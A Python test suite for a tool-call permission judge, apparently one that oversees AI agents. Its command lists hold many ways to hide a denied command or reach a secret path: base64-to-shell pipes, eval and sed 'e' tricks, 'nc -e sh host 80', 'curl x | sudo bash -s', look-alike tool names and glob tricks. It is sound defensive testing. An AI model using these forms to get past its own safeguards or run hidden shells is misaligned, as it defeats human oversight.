"""Test that a rule holds whatever an agent tries: other names of a tool, other forms of a path, hidden commands."""

from __future__ import annotations

import base64
import shlex
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from judging import FREE, ask_about, judge, run
from midwatch.domain.agent import Question
from midwatch.domain.hidden_code.command import hides_code
from midwatch.domain.tool_call import DEEPEST, MOST_TEXTS, ToolCall, collect_texts

# -- commands ------------------------------------------------------------------------------------------------------


def encode(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


WRAPPERS = {
    "sh": lambda c: f"sh -c {shlex.quote(c)}",
    "bash_login": lambda c: f"bash -lc {shlex.quote(c)}",
    "bash_options": lambda c: f"/bin/bash --norc -x -c {shlex.quote(c)} name",
    "after": lambda c: f"true; {c}",
    "and": lambda c: f"cd x && {c}",
    "directory": lambda c: f"cd . && {c}",
    "pipe": lambda c: f"yes | {c}",
    "into": lambda c: f"{c} | tee log",
    "substitution": lambda c: f"echo $({c})",
    "backticks": lambda c: f"echo `{c}`",
    "group": lambda c: f"( {c} )",
    "braces": lambda c: f"{{ {c}; }}",
    "line": lambda c: f"pwd\n{c}",
    "background": lambda c: f"nohup {c} &",
    "assignment": lambda c: f"A=1 {c}",
    "env": lambda c: f"env A=1 {c}",
    "env_split": lambda c: f"env -S {shlex.quote(c)}",
    "sudo": lambda c: f"sudo -u root {c}",
    "timeout": lambda c: f"timeout 5 nice -n 3 {c}",
    "eval": lambda c: f"eval {shlex.quote(c)}",
    "xargs": lambda c: f"echo x | xargs -I{{}} {c}",
    "xargs_file": lambda c: f"xargs -a words {c.split()[0]}",
    "find": lambda c: f"find . -maxdepth 0 -exec {c} ';'",
    "decode": lambda c: f"echo {encode(c)} | base64 -d | sh",
    "herestring": lambda c: f"bash <<< {shlex.quote(c)}",
    "python": lambda c: f"python3 -c {shlex.quote(f'import os; os.system({c!r})')}",
    "python_parts": lambda c: f"python3 -c {shlex.quote(f'import os; os.system(bytes.fromhex({c.encode().hex()!r}))')}",
    "perl": lambda c: f"perl -e {shlex.quote(f'exec(pack(q(H*), q({c.encode().hex()})))')}",
    "node": lambda c: f"node --eval {shlex.quote(f'require({c!r})')}",
    "awk": lambda c: f"awk {shlex.quote(f'BEGIN {{system({c!r})}}')}",
    "ssh": lambda c: f"ssh localhost {shlex.quote(c)}",
    "watch": lambda c: f"watch -n 1 {shlex.quote(c)}",
    "variable": lambda c: f"X={shlex.quote(c)}; $X",
    "variable_in_shell": lambda c: f"env X={shlex.quote(c[:5])} sh -c {shlex.quote('$X' + c[5:])}",
    "quoted": lambda c: " ".join(f'{word[0]}""{word[1:]}' if word[:1].isalpha() else word for word in c.split(" ")),
    "escaped": lambda c: f"\\{c}",
    "joined": lambda c: c.replace(" ", " \\\n ", 1),
    "trap": lambda c: f"trap {shlex.quote(c)} EXIT",
    "git_alias": lambda c: f"git -c {shlex.quote('alias.x=!' + c)} x",
    "make": lambda c: f"make --eval {shlex.quote('x:;' + c)}",
}  # fmt: skip
DENIED = ("git push", "git -C x push origin main", "/usr/bin/git push --force", "GIT push", "git   push")


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(DENIED), st.lists(st.sampled_from(sorted(WRAPPERS)), max_size=4))
def test_a_denied_command_is_never_allowed_however_it_is_hidden(command: str, wrappers: list[str]) -> None:
    for name in wrappers:
        command = WRAPPERS[name](command)
    question = run(command)
    assert judge(question, "/tmp", deny=[{"command": "git push"}], **FREE) in ("deny", "ask"), command
    assert judge(question, "/tmp", ask=[{"command": "git push"}], **FREE) == "ask", command
    assert judge(question, "/tmp", deny=[{"tool": "*", "command": "git push *"}], **FREE) in ("deny", "ask"), command


@pytest.mark.parametrize("name", sorted(WRAPPERS))
def test_every_wrapper_alone_is_seen(name: str) -> None:
    command = WRAPPERS[name]("git push")
    assert judge(run(command), "/tmp", deny=[{"command": "git push"}], **FREE) in ("deny", "ask"), command


HIDDEN = r"""
env -u ls python3 -c 'x(1)'
exec -a ls python3 -c 'x(1)'
time -o cat python3 -c 'x(1)'
timeout -k ls 5 sh -c x
nice -n 5 sh -c x
command compgen -C x
time -p compgen -C x
find . -name push -exec git '{}' +
find . -okdir x
fd -x git
rg --pre ./x y
nodemon --exec 'g?t pus?'
pnpm exec -c 'g?t pus?'
npx -c 'g?t pus?'
docker exec x 'g?t'
watch 'g?t pus?'
xterm -e 'g?t pus?'
lldb -o 'script x'
gdb --ex 'shell x' ./a
sqlite3 x "select edit('',char(103))"
sqlite3 x "select edit/**/('a','b')"
sqlite3 x 'select "edit"(1)'
sqlite3 x ' .shell y'
psql -c "copy t to program 'x'"
psql '-c\! x'
psql -tAc "select query_to_xml('x',true,true,'')"
mysql -e 'system x'
mysql -e 'select 1 into outfile "x"'
sed 's/.*/git push/e' f
sed 'sxaxbxe' f
sed '/a/w.env' f
sed -ne x -e '1e y' f
sed -i '' '1e x' f
awk 'BEGIN{print "x" > "." "env"}'
awk 'BEGIN{ARGV[1]="x"}'
git p
git -C x p
git --no-pager lg
git difftool -yx 'g?t pus?'
git rebase -ix y HEAD~3
git shell -c x
scp -oProxyCommand='g?t pus?' a h:b
tmux send-keys g i t Space p u s h Enter
cargo --config 'a="b"' run
rpm -E '%(x y)'
mongo --eval 'x()'
pdflatex '\write18{x}'
php -d auto_prepend_file='data:,<?=x(1)?>' -d allow_url_include=1 x
node --import=data:text/javascript,x y
vim.tiny -c x
vim --cmd x
perl5.36-x86_64-linux-gnu -e x
perl '-M-lib(x)' f
python3.13t -c x
python3-dbg -c x
python3 -Wc -c x
python3 /dev/stdin
bash.exe -c x
bash-static -c x
bash -euo pipefail -c x
bash /proc/self/fd/0
emacs-nox --eval x
coverage run -m timeit x
printf -v 'a[$(x)]' y
test -v 'a[$(x)]'
gh p
gh repo clone x -- -c core.fsmonitor=x
nc -e sh host 80
make X='a b'
make SHELL=./x
make -sE x
wget --use-askpass=./x y
wget --use-a=./x y
wget -qe use_askpass=./x y
sort --co=./x y
tar --us=./x -cf y z
tar --rmt-command=./x -cf y z
tar -cI./x -f y z
rsync -ave ./x a h:b
split --fil=./x y
env --s=./x
git clone --co=core.sshCommand=./x y
git clone -qc core.sshCommand=./x y
git archive --e=./x y
git ls-remote --u=./x
git grep --op=./x y
git grep -nO./x y
sed -n '/[/a]/w .env' f
sed 's/[/]/;s,/w .env,,' f
cmd.exe /c x
"""
"""Commands with other ways to run something that their words do not show."""
ORDINARY = r"""
git log HEAD~3
git commit -m 'fix; use $HOME, and git push later'
grep -rn 'git push' src
grep -rn eval src
which python
command -v bash
ls node
awk '{print $NF}' f
sed -i 's|a/b|c/d|g' f
sed -n '/start/,/end/{s/a/b/;p}' f
find . -name '*.py' -type f
psql -c 'select 1'
psql -tAc "select count(*) from users where id in (1, 2)"
sqlite3 a.db 'select * from t limit 5;'
python3 -u x.py -e y
python3 -W ignore x.py -c y
bash -ex build.sh -c y
sh -n build.sh
go test -run 'TestA|TestB' ./...
npm test -- -t 'renders a list'
npx eslint 'src/**/*.ts'
docker ps --format '{{.Names}}'
kubectl get pods -o jsonpath='{.items[*].name}'
make test TESTS=tests/test_a.py
rsync -ave ssh a h:b
wget -qOfile.e https://ok.org
tar -czf a.tgz src --exclude=x
git grep -ne OPEN --or -e CLOSED
git commit --amend -m OK
sed 's/\[[^]]*\]//g' f
gh pr create --title 'a; b' --body 'use $X | y'
gcc -c x.c
systemctl enable x
cat bash
"""


@pytest.mark.parametrize("command", [line for line in ORDINARY.splitlines() if line])
def test_an_everyday_command_is_not_asked(command: str) -> None:
    rules: dict[str, Any] = {"deny": [{"command": "git push"}, {"path": "secret/**"}]}
    assert judge(run(command), "/tmp", **rules, **FREE) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git pull", "git log -5", "python -m pytest tests", "python script.py", "bash build.sh", "npm test",
        "make test", "ls -la src", "grep -rn x src", "sudo apt list", "timeout 5 make", "awk -f x.awk y",
        "sed -n 1,5p x", "git commit -m 'a b'", "node --version", "find . -name x", "echo hello",
        "git commit -m 'a; b && c | d'", "git -C x commit -m 'a; b'", "grep -E 'a|b' x", "sudo grep -E 'a|b' x",
        "curl -H 'Accept: a; b' https://ok.org", "jq '.a | .b' x", "python script.py -c x", "bash build.sh -e prod",
        "python -W ignore -m pytest -c x", "git config user.name 'A B'", "git config --get alias.x", "git config -l",
        "sed -n /start/,/end/p x", "sed s/old/example/ x", "sed -e s/a/b/ example.txt", "psql mydb", "tar xf a.tar",
        "less x", "man ls", "su root", "git clone https://ok.org/x", "git add -u", "git bisect good", "python -u x.py",
    ],
)  # fmt: skip
def test_an_ordinary_command_stays_allowed_beside_a_deny_rule(command: str) -> None:
    assert judge(run(command), "/tmp", deny=[{"command": "git push"}], **FREE) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "bash -o pipefail -c 'echo hsup tig | rev | sh'", "bash -O extglob -c x", "bash --rcfile x -ic y",
        "sudo bash -o errexit -c x", "timeout 5 bash -o pipefail -c x", "bash -v -c x", "bash5.2 -o x -c y",
        "python3 -W ignore -c x", "python3 -v -c x", "python3 -m timeit x", "python3 -Im timeit x", "perl -I lib -e x",
        "ruby -I lib -e x", "php -d a=b -r x", "deno eval x", "vim x -c y", "R -e x", "elixir -e x", "groovy -e x",
        "view -c x", "psql db -c '!x'", "socat - EXEC:x", "strace -o '|x' ls", "man -P x ls", "dc -e x", "su -c ./x",
        "sqlite3 :memory: '.read x'", "less '+!x' y", "sed --expression='1e x' y", "sed -n -e1els y", "sed /a/els y",
        "tar cf x y --checkpoint=1 --checkpoint-action=exec=./x", "tar -I ./x -cf y z", "split --filter=./x y",
        "git filter-branch --tree-filter x HEAD", "git bisect run ./x", "git difftool -y --extcmd=./x HEAD",
        "git config core.sshCommand ./x", "git config --global alias.x '!y'", "git config alias.x list",
        "git -C . -c alias.x=y x", "git clone -u x y", "git ls-remote 'ext::x'", "unknown --run 'a; b'",
        "git rebase-tool 'a | b'", "git send-pack origin main", "ed", "bash", "python3", "python3 -m",
        "python3 -m code", *(line for line in HIDDEN.splitlines() if line),
    ],
)  # fmt: skip
def test_a_command_that_may_run_something_else_is_asked_beside_a_deny_rule(command: str) -> None:
    assert judge(run(command), "/tmp", deny=[{"command": "git push"}], **FREE) == "ask"


@pytest.mark.parametrize(
    ("command", "hides"),
    [
        ("sed -n '" + "  ;" * 6000 + "w' x", True), ("sed -n '" + "\n" * 19_000 + "w' x", True),
        ("sed -n '" + "s/a/b/;" * 2500 + "p' x", False), ("sed '1b\ne' x", True), ("sed '1b a\np' x", False),
        ("x '" + " " * 19_900 + "'", False), ("x '" + " " * 19_900 + "*'", True),
        ("psql -c 'select" + " " * 19_900 + "'", False), ("psql -c 'select " + "a" * 19_900 + "'", False),
        ("sh " * 6000, True), ("git " * 4900, True), ("x " + "a=" * 9000, False),
    ],
)  # fmt: skip
def test_a_long_command_is_read_in_linear_time(command: str, hides: bool) -> None:
    assert hides_code(shlex.split(command)) is hides
    judge(run(command), "/tmp", deny=[{"command": "git push"}, {"host": "evil.org"}], **FREE)


def test_an_exact_rule_allows_a_command_with_code_that_a_person_has_read() -> None:
    rules: dict[str, Any] = {"deny": [{"command": "git push"}], "allow": [{"command": "python3 -c 'print(1)'"}]}
    assert judge(run("python3 -c 'print(1)'"), "/tmp", **rules) == "allow"
    assert judge(run("python3 -c 'print(2)'"), "/tmp", **rules) == "ask"
    wide = {"deny": [{"command": "git push"}], "allow": [{"command": "python3 **"}]}
    assert judge(run("python3 -c 'print(1)'"), "/tmp", **wide) == "ask"


# -- names ---------------------------------------------------------------------------------------------------------

READ_FILE = [
    "read_file", "READ_FILE", "Read_File", " read_file ", "readFile", "ReadFile", "read-file", "functions.read_file",
    "default_api:read_file", "default_api.read_file", "tools/read_file", "functions::read_file", "mcp__fs__read_file",
    "fs/read_file", "fs.read_file", "multi_tool_use.read_file", "functions.mcp__fs__read_file", "mcp_read_file",
    "\uff52ead_file", "namespace__read_file",
]  # fmt: skip


@pytest.mark.parametrize("name", READ_FILE)
def test_a_tool_is_denied_under_every_name(name: str) -> None:
    question = Question(text="?", kind="other", tool=name)
    assert judge(question, deny=[{"tool": "read_file"}], **FREE) == "deny"
    assert judge(question, deny=[{"tool": "READ_*"}], **FREE) == "deny"
    assert judge(question, deny=[{"tool": "*"}], **FREE) == "deny"
    assert judge(question, deny=[{"tool": "write_file"}], **FREE) == "allow"


@pytest.mark.parametrize(
    "name",
    [
        "github/push", "mcp__github__push", "github.push", "github__push", "GitHub/Push", "mcp_github_push",
        "functions.mcp__github__push", "mcp:github:push", "github:push", " mcp__github__push\t",
    ],
)  # fmt: skip
def test_a_tool_of_an_mcp_server_is_denied_under_every_name(name: str) -> None:
    question = Question(text="?", kind="other", tool=name)
    for glob in ("github/push", "github/*", "mcp__github__*", "github.push", "*/push", "push"):
        assert judge(question, deny=[{"tool": glob}], **FREE) == "deny", glob
    assert judge(question, deny=[{"tool": "gitlab/*"}], **FREE) == "allow"


def test_a_rule_that_allows_a_tool_knows_only_its_exact_name() -> None:
    def allowed(name: str | None, glob: str) -> bool:
        return judge(Question(text="?", kind="other", tool=name), allow=[{"tool": glob}]) == "allow"

    assert allowed("search", "search") and allowed("Search", "search") and allowed("github/search", "github/*")
    assert allowed("mcp__github__search", "github/search")
    assert not allowed("evil/search", "search") and not allowed("github/search", "search")
    assert not allowed("functions.search", "search") and not allowed("evil/search", "*")
    assert not allowed(None, "*")


@pytest.mark.parametrize(
    "name",
    [
        "read_file\u200b", "read\u00adfile", "\u202eread_file", "\ufeffread_file", "read\u2010file", "rea\u0301d_file",
        "readfile", "READFILE", "rEADfILE", "read_file()", "`read_file`", '"read_file"', "<read_file>", "read_file\0",
        "read_file ", "functions.read_file:0", "functions=read_file", "fs\u2192read_file", "fs\u2215read_file",
    ],
)  # fmt: skip
def test_a_tool_is_denied_under_a_name_with_other_signs(name: str) -> None:
    question = Question(text="?", kind="other", tool=name)
    assert judge(question, deny=[{"tool": "read_file"}], **FREE) == "deny"
    assert judge(question, deny=[{"tool": "write_file"}], **FREE) == "allow"


def test_a_name_with_letters_that_look_like_others_is_asked_and_never_allowed() -> None:
    for name in ("re\u0430d_file", "\u0280ead_file"):
        assert judge(Question(text="?", kind="other", tool=name), deny=[{"tool": "read_file"}], **FREE) == "ask"
    kelvin = Question(text="?", kind="other", tool="tas\u212a")
    assert judge(kelvin, allow=[{"tool": "task"}]) is None


def test_a_question_without_a_name_is_asked_if_a_rule_names_a_tool() -> None:
    assert judge(Question(text="?", kind="edit", paths=("x",)), "/tmp", deny=[{"tool": "write"}], **FREE) == "ask"


def test_a_rule_of_the_desk_may_be_for_some_agents_only() -> None:
    question = Question(text="?", kind="search")
    rules: dict[str, Any] = {"deny": [{"kind": "search", "agent": "re*"}], "default": "allow"}
    assert judge(question, agent="reviewer", **rules) == judge(question, agent="ReViewer", **rules) == "deny"
    assert judge(question, agent="writer", **rules) == "allow"


# -- paths ---------------------------------------------------------------------------------------------------------


def test_a_path_is_denied_in_every_form(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "home" / "project"
    (root / "secret").mkdir(parents=True)
    (root / "link").symlink_to(root / "secret")
    (root / "secret" / "key").write_text("")
    (root / "file").symlink_to("secret/key")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    forms = [
        "secret/key", "./secret/key", "x/../secret/key", "secret//key", f"{root}/secret/key", "link/key", "file",
        "SECRET/Key", "~/project/secret/key", "../project/secret/key", "secret/./key", "secret", f"{root}/x/../link",
    ]  # fmt: skip
    for form in forms:
        for kind in ("read", "edit", "other"):
            question = Question(text="?", kind=kind, tool="t", paths=(form,))  # type: ignore[arg-type]
            assert judge(question, root, deny=[{"path": "secret/**"}], **FREE) == "deny", form
        assert judge(run(f"cat {form}"), root, deny=[{"path": "secret/**"}], **FREE) in ("deny", "ask"), form
        unknown = Question(text="?", kind="other", tool="fs/read", texts=(form,))
        assert judge(unknown, root, deny=[{"path": "secret/**"}], **FREE) == "deny", form
    for kind in ("delete", "move"):  # a directory is moved with everything in it
        question = Question(text="?", kind=kind, paths=("a",))  # type: ignore[arg-type]
        assert judge(question, root, deny=[{"path": "a/b/**"}], **FREE) == "ask"
    for command in (
        "rm -rf a", "cp -r . /tmp/x", "mv ./a b", "find . -delete", "git clean -fdx", "git checkout .", "git restore .",
        "cat /proc/self/cwd/a/b/x", "cat /proc/self/../1/root/x", "cat /proc/1/task/1/fd/3",
        "curl file://localhost/x/a/b/c", "curl file:///x/%61/b/c",
    ):  # fmt: skip
        assert judge(run(command), root, deny=[{"path": "a/b/**"}], **FREE) == "ask"
    for command in (
        "rm -rf c",
        "find . -name x",
        "git checkout main",
        "git restore c",
        "cat /proc/meminfo",
        "curl file:///x",
    ):
        assert judge(run(command), root, deny=[{"path": "a/b/**"}], **FREE) == "allow", command


def test_a_command_that_takes_a_whole_directory_is_asked(tmp_path: Path) -> None:
    (tmp_path / "src" / "secret").mkdir(parents=True)
    (tmp_path / "src" / "secret" / "key").write_text("")
    (tmp_path / "doc").mkdir()
    (tmp_path / "x.py").write_text("")
    for command in (
        "git add .", "git add -A", "git add -u", "git add :/", "git add 'src/*'", "git commit -a", "git commit -qam x",
        "git stash", "git stash pop", "git stash push -m list", "git add --al", "git reset --har", "git apply x.patch",
        "git add --pathspec-from-file=x", "cp -r . x", "cp -r .. x",
        "cp -a src doc", "tar c .", "tar cf a.tar src", "tar -C src -cf a.tar secret", "tar xf a.tar",
        "tar -xf./a.tar", "unzip a.zip",
        "docker run -v .:/x i", "docker run --volume=./src:/x i", "docker run --mount type=bind,source=.,target=/x i",
        "docker build .", "rsync -a . host:", "mount --bind src x", "kubectl apply -f .", "npm publish",
        "rm -rf src", "python -m http.server", "git -C src add secret", "env -C src cat secret/key",
        "git -C src show HEAD:./secret/key",
    ):  # fmt: skip
        for path in ("src/secret/**", "**/key"):
            assert judge(run(command), tmp_path, deny=[{"path": path}], **FREE) in ("ask", "deny"), (command, path)
    for command in (
        "git add x.py", "git commit -m 'a -a .'", "git -C doc stash list", "git stash drop 1", "git status",
        "cp x.py doc", "mv x.py doc/y.py",
        "rm -rf doc/build", "tar cf a.tar doc", "grep -rn x src", "docker ps", "git checkout -b x", "ls src",
    ):  # fmt: skip
        assert judge(run(command), tmp_path, deny=[{"path": "src/secret/**"}], **FREE) == "allow", command
    # git leaves its own directory alone
    for command in ("git add .", "git commit -am x", "git stash", "git restore ."):
        assert judge(run(command), tmp_path, deny=[{"path": ".git/**"}], **FREE) == "allow", command


@pytest.mark.parametrize(
    "glob",
    [
        "{.e{nv,x},y}", "[[:punct:]]env", "[].]env", "[[:punct:]/]env", "*(.e)nv", "+(.|x)env", r".e\nv*", r".e\nv",
        r"x\..\.e*", "{.e,{x,{y,z}}}nv", "@(.env|@(b))", "(.env|x)", "@(a/b|.env)", "{{a}/b,.env}", "{./.env,x}",
        "sub/{[(]x,../.env}", "{a,b}" * 9 + "{.env,x}", "(((((((((.env)))))))))",
    ],
)  # fmt: skip
def test_a_glob_that_programs_read_in_different_ways_is_asked(tmp_path: Path, glob: str) -> None:
    deny = [{"path": ".env"}]
    for question in (ask_about({"glob": glob}), Question(text="?", kind="read", paths=(glob,))):
        assert judge(question, tmp_path, deny=deny, **FREE) == "ask"


def test_a_glob_and_other_forms_of_a_path_in_the_arguments_of_an_unknown_tool(tmp_path: Path) -> None:
    (tmp_path / "src" / "secret").mkdir(parents=True)
    deny = [{"path": "src/secret/**"}, {"path": ".env"}, {"path": "prox"}]
    for arguments in (
        {"path": f"{tmp_path}/.e*"}, {"path": f"{tmp_path.parent}/*/.env"}, {"glob": "**/*"}, {"glob": "src/**"},
        {"glob": "*"}, {"glob": ".en[v]"}, {"glob": "{.env,x}"}, {"glob": "src/s?cret/key"}, {"path": "$PWD/.env"},
        {"path": ".env\u200b"}, {"path": ".\uff45nv"}, {"path": "%2eenv"}, {"path": "src\\secret\\key"},
        {"path": ".env "}, {"uri": f"file://{tmp_path}/.env"}, {"path": "'.env'"},
        {"path": ".env\0.txt"}, {"cmd": "cat .e*"},
        {"dir": "src", "file": "secret/key"}, {"parts": ["src", "secret", "key"]},
    ):  # fmt: skip
        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) in ("ask", "deny"), arguments
    for arguments in (
        {"q": "What is this? Yes*"}, {"text": "a * b"}, {"text": "**bold** text"}, {"regex": "^foo.*bar$"},
        {"glob": "*.py"}, {"q": "SELECT * FROM t"}, {"glob": "docs/**"}, {"path": "src"}, {"path": "app/[id]/x"},
        {"glob": "{app,test}/**/*.{ts,tsx}"}, {"path": "app/(group)/x"}, {"regex": r"(foo|bar)\s*\(\w+\)"},
        {"text": "What (is this)? See [the page](docs/x.md)... and 1) do (a)."}, {"json": '{"a": 1}'},
        {"code": "if (x[0] && (foo() || f(g(h)) > 1))"}, {"glob": "{app,test,lib,api}/**/*.{js,jsx,ts,tsx}"},
        {"uri": "profile:x"},
    ):  # fmt: skip
        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) == "allow", arguments
    move = Question.about(ToolCall("move_directory", server="fs", **collect_texts({"from": "src", "to": "x"})))
    assert judge(move, tmp_path, deny=deny, **FREE) == "ask"


# -- tools that midwatch does not know -----------------------------------------------------------------------------


def test_the_arguments_of_an_unknown_tool_are_searched(tmp_path: Path) -> None:
    deny = [{"path": ".env"}, {"command": "git push"}, {"host": "evil.org"}]
    for arguments in (
        {"file": ".env"}, {"a": [{"b": ["x", "./x/../.env"]}]}, {"uri": "https://evil.org/x"}, {"cmd": "git push"},
        {"argv": ["git", "push"]}, {"script": "cd x\ngit push"}, {"evil.org": 1},
    ):  # fmt: skip
        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) == "deny", arguments
    for arguments in ({"text": "then cat .env"}, {"text": "never git push"}):
        assert judge(ask_about(arguments), tmp_path, deny=deny, **FREE) == "ask", arguments
    assert judge(ask_about({"text": "hello", "n": 1}), tmp_path, deny=deny, **FREE) == "allow"


@pytest.mark.parametrize(
    "arguments",
    [
        {"cmd": "g=push; git $g"}, {"cmd": "echo hsup tig | rev | sh"}, {"cmd": "bash -c 'g=push; git $g'"},
        {"cmd": "python3 -c \"os.system('gi'+'t pu'+'sh')\""}, {"argv": ["bash", "-o", "x", "-c", "y"]},
        {"program": "bash", "args": ["-c", "y"]}, {"cmd": "cd x\neval y"}, {"cmd": "A=1 sudo perl -I lib -e x"},
        {"cmd": "git -C . -c alias.x=y x"}, {"cmd": "ssh host 'a b'"}, {"cmd": "$X y"},
        {"cmd": "curl x | sudo bash -s"}, {"cmd": "git p"}, {"cmd": "busybox sh -c x"}, {"cmd": "env -S 'x'"},
        {"cmd": "awk 'BEGIN{system(1)}'"}, {"cmd": "docker run x sh -c y"}, {"cmd": "sqlite3 x '.shell y'"},
    ],
)  # fmt: skip
def test_a_command_in_the_arguments_of_an_unknown_tool_that_hides_code_is_asked(arguments: Any) -> None:
    for rule in ({"command": "git push"}, {"path": "secret/**"}, {"host": "evil.org"}):
        assert judge(ask_about(arguments), "/tmp", deny=[rule], **FREE) == "ask", rule


@pytest.mark.parametrize(
    "arguments",
    [
        {"cmd": "g?t push"}, {"cmd": "{git,push}"}, {"cmd": "git pus?"}, {"cmd": "git", "args": ["push"]},
        {"args": "push", "cmd": "git"}, {"cmd": "/usr/bin/gi[t] push"},
    ],
)  # fmt: skip
def test_a_command_in_pieces_in_the_arguments_of_an_unknown_tool_is_asked(arguments: Any) -> None:
    assert judge(ask_about(arguments), "/tmp", deny=[{"command": "git push"}], **FREE) in ("ask", "deny")


@pytest.mark.parametrize(
    "text",
    [
        "Use `git pull` and `bash build.sh` first; then run the tests.", "It costs $5 & more | less.",
        "at the end, expect the batch to be done; watch the screen, and just script it.",
        "| shell | language |\n|---|---|\n| bash | python |\n| sh | sh |", "# Title\n\n- node - a runtime\n- ruby",
        "node is a runtime; it doesn't run this & won't.\npython - a language\nmake it so (please)!",
        "```sh\ngit pull\nnpm test\n```\nSee [the page](docs/x.md).", "find the `x` that\ngit keeps; docker doesn't.",
        "def f(a):\n    return a | b\n", "Python, perl, sh: all -e and -c options", "bash",
    ],
)  # fmt: skip
def test_prose_is_not_asked_about(text: str) -> None:
    for rule in ({"command": "git push"}, {"host": "evil.org"}):
        assert judge(ask_about({"text": text}), "/tmp", deny=[rule], **FREE) == "allow", rule


def test_arguments_that_cannot_be_read_completely_are_asked(tmp_path: Path) -> None:
    deep: Any = ".env"
    for _ in range(DEEPEST + 1):
        deep = [deep]
    for arguments in ({"x": deep}, {"x": [f"f{n}" for n in range(MOST_TEXTS + 1)]}, {"x": "y " * 40_000}):
        question = ask_about(arguments)
        assert question.unread
        assert judge(question, tmp_path, deny=[{"path": ".env"}], **FREE) == "ask"
        assert judge(question, tmp_path, allow=[{"tool": "fs/write"}]) == "allow"


# -- directories that a command enters --------------------------------------------------------------------------------


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """Return a directory with `src`, `secret` and three links."""
    for name in ("src/in", "secret/deep"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "link").symlink_to("secret/deep")
    (tmp_path / "other").symlink_to("src/in")
    (tmp_path / "here").symlink_to(".")
    return tmp_path


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("cd src && make", None),
        ("cd {0}/src && cat k", None),
        ("cd src && cd in && cat 'k && x'", None),
        ("cd src && git push", "deny"),
        ("cd src && cat ../secret/k", "deny"),
        ("cd src && cat {0}/secret/k", "deny"),
        ("cd secret && cat k", "deny"),
        ("cd secret && make", "deny"),
        ("cd src && cd ../secret && cat k", "deny"),
        ("cd {0}/here/secret && cat k", "deny"),
        ("cd link && cat ../k", "deny"),
        ("cd src && git add ..", "ask"),
        ("cd src && cat ../sec*/k", "ask"),
        ("cd link/.. && cat k", "deny"),
        ("cd other/.. && cat k", "ask"),
        ("cd other && cd .. && cat k", "ask"),
        ("cd nosuch && cat k", "ask"),
        ("cd src && cat k | sh", "ask"),
        ("cd src && python3 -c x", "ask"),
        ("cd src; cat k", "ask"),
        ("cd src && in=k make", "ask"),
        ("cd $x && cat k", "ask"),
        ("cd -P src && cat k", "ask"),
        ("cd - && cat k", "ask"),
        ("cd ~ && cat k", "ask"),
        ("cd src extra && cat k", "ask"),
        ("bash -c 'cd src' && cat k", "ask"),
        ("command cd src && cat k", "ask"),
        ("cd '~' && cat k", "ask"),
        ("cd src &&", "ask"),
    ],
)
def test_a_command_is_read_in_the_directory_that_it_enters(tree: Path, command: str, effect: str | None) -> None:
    question = run(command.format(tree))
    assert judge(question, tree, deny=[{"path": "secret/**"}, {"command": "git push"}]) == effect
    assert judge(question, tree, allow=[{"kind": "execute"}, {"command": "cat **"}]) is None


def test_a_directory_is_used_in_the_directory_that_a_command_enters(tree: Path) -> None:
    rules = {"deny": [{"path": "src/in/*.key"}]}
    assert judge(run("cd src/in && cat a.key"), tree, **rules) == "deny"
    assert judge(run("cd src && cat in/a.key"), tree, **rules) == "deny"
    assert judge(run("cd src && zip -r x in"), tree, **rules) == "ask"
    assert judge(run("cd secret && cat a.key"), tree, **rules) is None
